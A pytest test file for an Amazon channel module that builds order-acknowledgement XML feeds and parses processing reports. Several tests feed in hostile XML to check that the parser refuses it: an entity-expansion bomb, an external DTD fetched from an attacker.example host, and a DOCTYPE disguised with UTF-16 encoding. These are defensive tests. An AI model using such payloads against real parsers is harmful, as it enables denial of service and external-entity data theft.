"""The order-acknowledgement feed the pipeline writes and the processing report it reads (cancellation.py)."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest

from amazon_channel.cancellation import FeedMessage, ReportError, feed_document, parse_processing_report

pytestmark = [pytest.mark.unit]

REPORT = """<?xml version="1.0" encoding="UTF-8"?>
<AmazonEnvelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="amzn-envelope.xsd">
<Header><DocumentVersion>1.02</DocumentVersion><MerchantIdentifier>SELLER</MerchantIdentifier></Header>
<MessageType>ProcessingReport</MessageType><Message><MessageID>1</MessageID><ProcessingReport>
  <DocumentTransactionID>1234</DocumentTransactionID><StatusCode>Complete</StatusCode>
  <ProcessingSummary><MessagesProcessed>3</MessagesProcessed><MessagesSuccessful>1</MessagesSuccessful>
    <MessagesWithError>1</MessagesWithError><MessagesWithWarning>1</MessagesWithWarning></ProcessingSummary>
  <Result><MessageID>2</MessageID><ResultCode>Error</ResultCode><ResultMessageCode>18028</ResultMessageCode>
    <ResultDescription>The order cannot be cancelled: it has been shipped.</ResultDescription>
    <AdditionalInfo><AmazonOrderID>111-0000002-0000002</AmazonOrderID></AdditionalInfo></Result>
  <Result><MessageID>3</MessageID><ResultCode>Warning</ResultCode><ResultMessageCode>5000</ResultMessageCode>
    <ResultDescription>Something worth knowing.</ResultDescription></Result>
</ProcessingReport></Message></AmazonEnvelope>"""


def test_the_feed_holds_one_failure_message_per_order_with_a_reason_per_item():
    # Arrange
    messages = [FeedMessage(1, "111-0000001-0000001", "NoInventory", ("10001", "10002")),
                FeedMessage(2, "111-0000002-0000002", "BuyerCanceled", ("20001",))]

    # Act
    document = feed_document(messages, "A1SELLER")

    # Assert
    assert document.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    root = ET.fromstring(document)
    assert root.tag == "AmazonEnvelope" and root.findtext("MessageType") == "OrderAcknowledgement"
    assert root.findtext("Header/DocumentVersion") == "1.01"
    assert root.findtext("Header/MerchantIdentifier") == "A1SELLER"
    assert root.get("{http://www.w3.org/2001/XMLSchema-instance}noNamespaceSchemaLocation") == "amzn-envelope.xsd"
    sent = [(m.findtext("MessageID"), m.findtext("OrderAcknowledgement/AmazonOrderID"),
             m.findtext("OrderAcknowledgement/StatusCode"),
             [(i.findtext("AmazonOrderItemCode"), i.findtext("CancelReason"))
              for i in m.findall("OrderAcknowledgement/Item")]) for m in root.findall("Message")]
    assert sent == [("1", "111-0000001-0000001", "Failure", [("10001", "NoInventory"), ("10002", "NoInventory")]),
                    ("2", "111-0000002-0000002", "Failure", [("20001", "BuyerCanceled")])]


def test_the_feed_escapes_what_it_carries():
    # Act
    document = feed_document([FeedMessage(1, "111-0000001-0000001", "NoInventory", ("1<2&3",))], "S&<>")

    # Assert
    root = ET.fromstring(document)
    assert root.findtext("Header/MerchantIdentifier") == "S&<>"
    assert root.findtext("Message/OrderAcknowledgement/Item/AmazonOrderItemCode") == "1<2&3"


def test_a_reason_amazon_does_not_know_is_never_sent():
    # Act / Assert
    with pytest.raises(ValueError, match="CancelReason"):
        feed_document([FeedMessage(1, "111-0000001-0000001", "TooExpensive", ("1",))], "SELLER")


def test_the_report_gives_each_errored_message_amazons_words_and_ignores_warnings():
    # Act
    report = parse_processing_report(REPORT.encode())

    # Assert
    assert report.status_code == "Complete" and report.messages_processed == 3
    assert report.errors == {2: "18028: The order cannot be cancelled: it has been shipped."}
    assert report.error_for(2, "111-0000002-0000002").startswith("18028")
    assert report.error_for(1, "111-0000001-0000001") is None  # no Error result: it succeeded
    assert report.error_for(3, "111-0000003-0000003") is None  # a warning does not stop a message


def test_a_result_without_a_message_id_is_matched_by_its_order():
    # Arrange
    text = REPORT.replace("<MessageID>2</MessageID><ResultCode>", "<ResultCode>")

    # Act
    report = parse_processing_report(text.encode())

    # Assert
    assert report.errors == {} and report.error_for(2, "111-0000002-0000002").startswith("18028")
    assert "has been shipped" in report.reason()


def test_a_namespaced_report_reads_the_same():
    # Arrange
    text = REPORT.replace("<AmazonEnvelope ", '<AmazonEnvelope xmlns="urn:amazon:envelope" ')

    # Act / Assert
    assert parse_processing_report(text.encode()).errors == parse_processing_report(REPORT.encode()).errors


@pytest.mark.parametrize("hostile", [
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
    "<AmazonEnvelope><ProcessingReport><StatusCode>&lol2;</StatusCode></ProcessingReport></AmazonEnvelope>",
    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><AmazonEnvelope/>',
    '<?xml version="1.0"?><!doctype r><AmazonEnvelope/>',
])
def test_a_report_with_a_dtd_or_entities_is_refused_before_parsing(hostile):
    # Act / Assert
    with pytest.raises(ReportError, match="DTD"):
        parse_processing_report(hostile.encode())


def test_a_dtd_hidden_behind_another_declared_encoding_is_still_refused():
    # Arrange: UTF-16 bytes would slip past a byte search for "<!DOCTYPE"
    hostile = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><AmazonEnvelope/>'

    # Act / Assert
    with pytest.raises(ReportError, match="not UTF-8"):
        parse_processing_report(hostile.encode("utf-16"))


@pytest.mark.parametrize(("content", "problem"), [
    (b"<AmazonEnvelope><Message>", "not well-formed"),
    (b"{\"errors\": []}", "not well-formed"),
    (b"<AmazonEnvelope><MessageType>ProcessingReport</MessageType></AmazonEnvelope>", "not an AmazonEnvelope"),
    (b"<Other><ProcessingReport/></Other>", "not an AmazonEnvelope"),
    (b"\xff\xfe\x00garbage", "not UTF-8"),
])
def test_a_report_that_is_not_a_processing_report_is_refused(content, problem):
    # Act / Assert
    with pytest.raises(ReportError, match=problem):
        parse_processing_report(content)
